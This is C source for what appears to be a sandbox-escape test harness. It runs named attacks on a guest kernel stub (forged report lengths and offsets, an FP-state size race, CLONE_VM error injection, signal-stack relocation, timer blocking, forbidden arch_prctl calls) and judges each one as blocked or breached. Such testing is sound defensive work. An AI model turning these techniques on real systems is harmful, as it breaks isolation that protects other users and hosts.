static void spin(void)
{
	uint64_t spent = 0, last = __rdtsc(), t;

	while (spent < spin_ticks) {
		_mm_pause();
		t = __rdtsc();
		if (t - last < 100000)
			spent += t - last;
		last = t;
	}
	shared->kind = BREACHED;
	_exit(0);
}

static void alarm_spin(void)
{
	uintptr_t site = sigreturn_site();
	ucontext_t uc;

	spin_ticks = STUBBORN_SECONDS * ticks_per_second();
	make_frame(&uc, (uintptr_t)spin, host_sigalrm);
	step("spinning with the host's SIGALRM blocked");
	describe("blocked the host's SIGALRM, ran for %d s: no preemption, no SIGKILL",
		 STUBBORN_SECONDS);
	host_sigreturn(site, &uc);
}

static void alarm_sleep(void)
{
	uintptr_t sigreturn, futex;
	ucontext_t uc;
	greg_t *regs = uc.uc_mcontext.gregs;

	find_report();
	sigreturn = sigreturn_site();
	futex = site_for(SYS_futex);
	make_frame(&uc, futex, host_sigalrm);
	regs[REG_RAX] = SYS_futex;
	regs[REG_RDI] = (greg_t)report.futex;
	regs[REG_RSI] = FUTEX_WAIT;
	step("sleeping with the host's SIGALRM blocked");
	host_sigreturn(sigreturn, &uc);
}

/* ------------------------------------------------------------------------
 * Attacks on the kernel: what it believes of the stub's data
 */

/* A failed batch: the kernel prints the entry at that index. */
static void forged_length(void)
{
	find_report();
	step("reporting an error at index 0x7fffffff");
	*report.err = -1;
	*report.length = 0x7fffffff;
	asm volatile("int3");
	conclude(BLOCKED, "the kernel did not look at err and length");
}

static void forged_si_offset(void)
{
	find_report();
	prepare_forgery();
	step("reporting siginfo at offset 0xffff");
	*report.si_offset = 0xffff;
	forge_report(SIGALRM);
	await_resume();
	conclude(BLOCKED, "the kernel did not look at the offset");
}

static void restart_wait(void)
{
	find_report();
	step("setting restart_wait");
	*report.restart_wait = 1;
	getpid();
	conclude(BLOCKED, "a guest call went through with restart_wait set");
}

#define FPSTATE_SW		464	/* struct _fpx_sw_bytes in the fxsave area */
#define FP_XSTATE_MAGIC2	0x46505845U

/*
 * The stub runs on while the kernel serves its nanosleep, and says then that
 * its extended FP state is 0 bytes, less 4 for the magic number at its end.
 */
static void shrink_fp_state(void *arg)
{
	static const struct timespec nap = { .tv_nsec = 300000000 };
	greg_t *regs = report.frame->gregs;
	uint32_t *fp, *call;
	uint64_t until;

	prepare_forgery();
	step("changing the size of its FP state during a guest call");
	fp = (uint32_t *)report.frame->fpregs;
	call = (uint32_t *)((uintptr_t)report.frame + FRAME_SIGINFO + SIGINFO_SYSCALL);
	*call = SYS_nanosleep;
	regs[REG_RDI] = (greg_t)&nap;
	regs[REG_RSI] = 0;
	forge_report(SIGSYS);
	until = __rdtsc() + *(uint64_t *)arg;
	while (__rdtsc() < until)	/* the kernel has read the frame by then */
		_mm_pause();
	fp[-1] = FP_XSTATE_MAGIC2;
	fp[FPSTATE_SW / 4 + 1] = 0;
	await_resume();
}

static void forged_fp_size(void)
{
	uint64_t nap_half = ticks_per_second() * 15 / 100;
	int i, status = 0;

	find_report();
	(void)site_for(SYS_futex);
	/* a timer tick at the wrong moment spoils it */
	for (i = 0; i < 5; i++)
		status = in_child(shrink_fp_state, &nap_half);
	conclude(BLOCKED, "the kernel did not use the changed size, wait status %#x",
		 status);
}

static char sibling_stack[4 * PAGE] __attribute__((aligned(16)));

static int report_positive_err(void *arg)
{
	(void)arg;
	*report.err = 0x40000000;
	*report.length = 0;
	asm volatile("int3");
	return 0;
}

/*
 * Without a jump into the stub: the positive error of a child with CLONE_VM
 * becomes the length of the parent's batch, an index into kernel memory.
 */
static void clone_vm_err(void)
{
	int *status;
	pid_t pid;

	find_report();
	status = (int *)reserve(PAGE);
	step("leaving a positive err to a process that shares the mm");
	pid = clone(report_positive_err, sibling_stack + sizeof(sibling_stack),
		    CLONE_VM | SIGCHLD, NULL);
	if (pid < 0)
		conclude(INCONCLUSIVE, "clone: %s", strerror(errno));
	/* the page for the status is fresh: the kernel has to queue an mmap */
	waitpid(pid, status, 0);
	munmap(status, PAGE);
	conclude(BLOCKED, "the parent's next mmap and munmap went well");
}

/*
 * Move the host's alternate signal stack into guest memory, so that siginfo's
 * offset from the stub's own stack, cut to 16 bits, is just out of range while
 * mcontext's is not.
 */
static void altstack_move(void)
{
	static char stack[64 * PAGE] __attribute__((aligned(4096)));
	uintptr_t site, below_top, top, mctx;
	ucontext_t uc;

	find_report();
	site = sigreturn_site();
	below_top = stub.end - (uintptr_t)report.frame;
	for (top = (uintptr_t)stack + sizeof(stack); ; top -= 64) {
		mctx = (uint16_t)(top - below_top - report.stack);
		if (mctx <= PAGE - sizeof(mcontext_t) &&
		    mctx + FRAME_SIGINFO > PAGE - sizeof(siginfo_t))
			break;
		if (top < (uintptr_t)stack + 48 * PAGE)
			conclude(INCONCLUSIVE, "no place for the signal stack");
	}
	step("moving the host's signal stack");
	memset(stack, 0, sizeof(stack));	/* the host cannot fault it in */
	make_frame(&uc, (uintptr_t)landing, 0);
	uc.uc_stack.ss_sp = stack;
	uc.uc_stack.ss_size = top - (uintptr_t)stack;
	/* what the kernel finds in the place of the frame must look right */
	memset((void *)report.stack, 0, sizeof(struct _libc_fpstate));
	((mcontext_t *)(report.stack + mctx))->fpregs = (void *)report.stack;
	host_sigreturn(site, &uc);
	getpid();
	conclude(BLOCKED, "a guest call went through with the signal stack moved");
}

/* Codes beyond setting FS and GS, which is all that the stub does. */
static const struct {
	const char *name;
	int code;
} prctl_codes[] = {
	{ "GET_FS", ARCH_GET_FS },
	{ "GET_GS", ARCH_GET_GS },
	{ "GET_CPUID", 0x1011 },
	{ "GET_XCOMP_SUPP", 0x1021 },
	{ "MAP_VDSO_32", 0x2002 },
	{ "MAP_VDSO_64", 0x2003 },
};

static void call_arch_prctl(void *arg)
{
	static uint64_t out;
	long ret;

	/* the vdso calls want a free address, the others a buffer */
	ret = host_call(SYS_arch_prctl, *(int *)arg,
			*(int *)arg >= 0x2000 ? 0 : (long)&out);
	_exit(ret < 0 && ret > -4096 ? 1 : 0);
}

static void arch_prctl_codes(void)
{
	char ran[128] = "";
	size_t i, n = 0;

	(void)site_for(SYS_arch_prctl);
	for (i = 0; i < ARRAY_SIZE(prctl_codes); i++) {
		int code = prctl_codes[i].code;

		step("arch_prctl(%s)", prctl_codes[i].name);
		if (in_child(call_arch_prctl, &code) == 0)
			n += (size_t)snprintf(ran + n, sizeof(ran) - n, " %s",
					      prctl_codes[i].name);
	}
	if (n)
		conclude(BREACHED, "ran in the host:%s", ran);
	conclude(BLOCKED, "none of %zu forbidden codes ran", i);
}

/* ------------------------------------------------------------------------
 * Running and judging an attack
 */

static const struct attack {
	const char *name, *what;
	void (*run)(void);		/* in a child */
	void (*prepare)(void);		/* before, in the judge */
	void (*judge)(void);		/* after, in the judge */
	bool stubborn;			/* needs longer to be killed */
} attacks[] = {
	{ "foreign-frame", "read another process's memory with the memory fd",
	  foreign_frame, start_victim, judge_claim, false },
	{ "length-overrun", "map more frames than the one that is allowed",
	  length_overrun, start_victim, judge_claim, false },
	{ "wrong-prot", "map a read-only page writable",
	  wrong_prot, create_owned_file, judge_owned_file, false },
	{ "munmap-stub", "unmap the stub's own data",
	  munmap_stub, NULL, NULL, false },
	{ "alarm-spin", "block the timer tick and spin",
	  alarm_spin, NULL, NULL, true },
	{ "alarm-sleep", "block the timer tick and sleep for ever",
	  alarm_sleep, NULL, NULL, true },
	{ "altstack-move", "move the host's signal stack into guest memory",
	  altstack_move, NULL, NULL, false },
	{ "forged-length", "report a failed batch with a length out of range",
	  forged_length, NULL, NULL, false },
	{ "forged-si-offset", "report siginfo out of range",
	  forged_si_offset, NULL, NULL, false },
	{ "forged-fp-size", "change the FP state's size during a guest call",
	  forged_fp_size, NULL, NULL, false },
	{ "restart-wait", "set the kernel's own flag in the shared data",
	  restart_wait, NULL, NULL, false },
	{ "clone-vm-err", "leave an err that becomes an index in the kernel",
	  clone_vm_err, NULL, NULL, false },
	{ "arch-prctl", "run arch_prctl codes that the stub never needs",
	  arch_prctl_codes, NULL, NULL, false },
};

static bool reap(pid_t pid, int *status, int seconds)
{
	double deadline = now() + seconds;

	while (waitpid(pid, status, WNOHANG) == 0) {
		if (now() > deadline)
			return false;
		usleep(10000);
	}
	return true;
}

/*
 * An attacker that SIGKILL does not end keeps what it holds: a CPU, or locks of
 * the guest kernel. If it was the only CPU this process does not run either:
 * then the missing result line tells.
 */
static int watch(pid_t pid, bool stubborn)
{
	int patience = stubborn ? 1 : 10;
	int grace = stubborn ? 4 * STUBBORN_SECONDS : 5;
	int status = 0;

	if (reap(pid, &status, patience))
		return status;
	kill(pid, SIGKILL);
	if (!reap(pid, &status, grace))
		set_verdict(BREACHED, "%d s after SIGKILL it is still there, %s",
			    grace, shared->step);
	return status;
}

static void judge_status(int status)
{
	if (shared->kind != PENDING)
		return;
	if (WIFSIGNALED(status))
		set_verdict(BLOCKED, "killed by signal %d while %s",
			    WTERMSIG(status), shared->step);
	else
		set_verdict(INCONCLUSIVE, "exit status %d while %s",
			    WEXITSTATUS(status), shared->step);
}

static void use_memory(void *arg)
{
	memset((void *)reserve((size_t)arg), 1, (size_t)arg);
}

static void run_attack(const struct attack *attack)
{
	double start;
	pid_t pid;

	if (attack->prepare)
		attack->prepare();
	fflush(stdout);
	start = now();
	pid = fork();
	if (pid < 0)
		conclude(INCONCLUSIVE, "fork: %s", strerror(errno));
	if (pid == 0) {
		find_stub();
		attack->run();
		_exit(3);
	}
	judge_status(watch(pid, attack->stubborn));
	if (attack->judge)
		attack->judge();
	/* a guest that survived must still be of use */
	if (in_child(use_memory, (void *)(64 * PAGE)) != 0)
		set_verdict(BREACHED, "the guest cannot run another process now");
	snprintf(shared->step, sizeof(shared->step), "%.1f s", now() - start);
}

static int print_verdict(void)
{
	static const char *const names[] = {
		[BLOCKED] = "BLOCKED", [BREACHED] = "BREACHED",
		[INCONCLUSIVE] = "INCONCLUSIVE",
	};
	enum kind kind = shared->kind;

	printf("%s %s (%s)\n", names[kind], shared->text, shared->step);
	return kind == BLOCKED ? 0 : kind == BREACHED ? 1 : 2;
}

static void print_stub(void)
{
	unsigned int i;

	find_stub();
	printf("code %#lx data %#lx end %#lx\n", stub.code, stub.data, stub.end);
	for (i = 0; i < stub.nsites; i++)
		printf("syscall at code+%#lx\n", stub.site[i] - stub.code);
	find_report();
	printf("signal frame at data+%#lx, offsets at data+%#lx from data+%#lx\n",
	       (uintptr_t)report.frame - stub.data,
	       (uintptr_t)report.si_offset - stub.data,
	       report.stack - stub.data);
	printf("futex through code+%#lx\n", site_for(SYS_futex) - stub.code);
	fflush(stdout);
	set_verdict(BLOCKED, "nothing was attacked");
}

static void list_attacks(void)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(attacks); i++)
		printf("%-18s %s\n", attacks[i].name, attacks[i].what);
}

static const struct attack *find_attack(const char *name)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(attacks); i++)
		if (!strcmp(attacks[i].name, name))
			return &attacks[i];
	return NULL;
}

static const struct attack *chosen;

/* In a child, because conclude() ends the process that calls it. */
static void judge_main(void *arg)
{
	(void)arg;
	if (chosen)
		run_attack(chosen);
	else
		print_stub();
}

int main(int argc, char **argv)
{
	pid_t pid;

	if (argc == 2 && !strcmp(argv[1], "--list")) {
		list_attacks();
		return 0;
	}
	chosen = argc == 2 ? find_attack(argv[1]) : NULL;
	if (!chosen && (argc != 2 || strcmp(argv[1], "--probe"))) {
		fprintf(stderr, "usage: %s --list | --probe | ATTACK\n", argv[0]);
		return 2;
	}
	shared = map_shared(sizeof(*shared));
	pid = fork();
	if (pid == 0) {
		judge_main(NULL);
		_exit(0);
	}
	if (pid < 0 || waitpid(pid, NULL, 0) != pid) {
		perror("fork");
		return 2;
	}
	return print_verdict();
}
